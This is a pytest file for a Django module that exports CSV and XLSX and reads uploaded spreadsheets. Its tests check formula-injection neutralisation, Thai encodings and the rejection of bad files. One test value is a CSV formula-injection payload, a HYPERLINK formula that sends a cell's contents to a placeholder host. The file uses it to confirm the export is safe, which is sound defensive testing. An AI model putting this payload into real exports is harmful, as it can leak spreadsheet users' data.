import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from sandbox import tabular

PAYEE = '=HYPERLINK("http://x"&A1,"x")'
COLUMNS = [("Payee", tabular.TEXT, 24), ("Amount (baht)", tabular.MONEY, 14), ("Note", tabular.TEXT, 10)]
ROWS = [[PAYEE, Decimal("-12.50"), "+66 81 234 5678"], ["ร้านค้า", Decimal("100.00"), "@home"]]


def _csv(response):
    content = response.content if hasattr(response, "content") else b"".join(response.streaming_content)
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_csv_text_that_a_spreadsheet_would_run_is_neutralised():
    rows = _csv(tabular.csv_response([label for label, _k, _w in COLUMNS], ROWS, "spending"))
    assert rows[1] == ["'" + PAYEE, "-12.50", "'+66 81 234 5678"]  # a negative amount stays a number
    assert rows[2] == ["ร้านค้า", "100.00", "'@home"]
    for start in ("-", "\t", "\r"):
        assert tabular.safe_text(start + "1+1") == "'" + start + "1+1"


def test_csv_is_streamed_when_the_rows_are_an_iterator():
    response = tabular.csv_response(["Payee"], iter([[PAYEE]]), "spending")
    assert response.streaming
    assert _csv(response)[1] == ["'" + PAYEE]


def test_xlsx_text_cells_are_strings_never_formulas():
    response = tabular.xlsx_response(COLUMNS, ROWS, "spending")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    payee = sheet.cell(row=2, column=1)
    assert payee.value == PAYEE and payee.data_type == "s"
    assert sheet.cell(row=2, column=2).value == -12.5
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_csv_and_xlsx_read_with_the_row_numbers_the_spreadsheet_shows():
    text = "Code,Name,Date\n\n0012,ก,2024-05-14\n"
    header, rows = tabular.read_table(SimpleUploadedFile("s.csv", text.encode("utf-8-sig")))
    assert header == ["code", "name", "date"] and rows == [(3, {"code": "0012", "name": "ก", "date": "2024-05-14"})]
    thai = SimpleUploadedFile("s.csv", "code,name\n1,โรงเรียน\n".encode("cp874"))
    assert tabular.read_table(thai)[1] == [(2, {"code": "1", "name": "โรงเรียน"})]
    book = openpyxl.Workbook()
    book.active.append(["code", "amount", "date"])
    book.active.append([12, 1000.5, datetime.datetime(2024, 5, 14)])
    buffer = io.BytesIO()
    book.save(buffer)
    _header, rows = tabular.read_table(SimpleUploadedFile("s.xlsx", buffer.getvalue()))
    number, cells = rows[0]
    assert number == 2 and [tabular.cell_text(cells[c]) for c in ("code", "amount", "date")] == [
        "12", "1000.5", "2024-05-14"]


@pytest.mark.parametrize("name, content", [("s.pdf", b"%PDF-"), ("s.xlsx", b"not a zip"), ("s.csv", b"")])
def test_unreadable_files_are_refused_with_a_reason(name, content):
    with pytest.raises(tabular.UnreadableFile):
        tabular.read_table(SimpleUploadedFile(name, content))


def test_too_many_rows_are_refused():
    with pytest.raises(tabular.UnreadableFile):
        tabular.read_table(SimpleUploadedFile("s.csv", b"a\n1\n2\n3\n"), max_rows=2)
